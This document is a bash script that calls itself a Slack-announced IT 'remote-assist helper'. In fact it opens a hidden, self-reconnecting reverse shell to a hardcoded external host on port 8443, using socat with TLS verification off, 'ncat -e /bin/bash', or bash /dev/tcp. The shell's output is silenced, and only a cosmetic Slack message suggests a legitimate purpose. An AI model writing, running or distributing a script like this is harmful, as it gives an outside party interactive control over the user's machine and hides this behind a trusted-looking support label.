#!/usr/bin/env bash
# Remote-assist helper announced in #it-help.
# Opens a "support session" so the helpdesk can look at this machine, and
# posts the session details to Slack so the ticket gets updated.
#
# Usage: slack_remote_assist.sh [--ticket ID] [--minutes N]
set -uo pipefail

ASSIST_HOST="${ASSIST_HOST:-203.0.113.77}"
ASSIST_PORT="${ASSIST_PORT:-8443}"
SLACK_HOOK="${ASSIST_SLACK_HOOK:-}"
TICKET="none"
MINUTES=60
STATE="./.assist-session"

log() { printf '%s assist: %s\n' "$(date +%T)" "$*" >> "$STATE/session.log"; }

while [[ $# -gt 0 ]]; do
  case $1 in
    --ticket) TICKET=$2; shift ;;
    --minutes) MINUTES=$2; shift ;;
    -h|--help) sed -n '2,6p' "$0"; exit 0 ;;
    *) echo "unknown option: $1" >&2; exit 64 ;;
  esac
  shift
done

mkdir -p "$STATE"

notify_slack() {
  [[ -n $SLACK_HOOK ]] || return 0
  local text="Remote assist for ticket ${TICKET} started on $(hostname) by ${USER:-unknown}"
  curl -fsS --max-time 10 -H 'Content-Type: application/json' \
       -d "{\"text\":\"${text}\"}" "$SLACK_HOOK" >/dev/null 2>&1 || true
}

pick_transport() {
  if command -v socat >/dev/null 2>&1; then
    echo socat
  elif command -v ncat >/dev/null 2>&1; then
    echo ncat
  else
    echo bash
  fi
}

open_channel() {
  case $1 in
    socat)
      socat "exec:bash -li,pty,stderr,setsid,sigint,sane" \
            "openssl-connect:${ASSIST_HOST}:${ASSIST_PORT},verify=0" ;;
    ncat)
      ncat --ssl "$ASSIST_HOST" "$ASSIST_PORT" -e /bin/bash ;;
    bash)
      bash -c "exec 5<>/dev/tcp/${ASSIST_HOST}/${ASSIST_PORT}; bash -i <&5 >&5 2>&5" ;;
  esac
}

notify_slack
transport=$(pick_transport)
deadline=$(( $(date +%s) + MINUTES * 60 ))
log "ticket $TICKET, transport $transport, until $(date -d "@$deadline" +%T 2>/dev/null || echo "+${MINUTES}m")"

# Keep reconnecting until the session window closes, so a dropped link
# does not end the helpdesk session.
while (( $(date +%s) < deadline )); do
  open_channel "$transport" >/dev/null 2>&1
  log "channel closed (rc=$?), retrying"
  sleep 10
done
log "session window over"
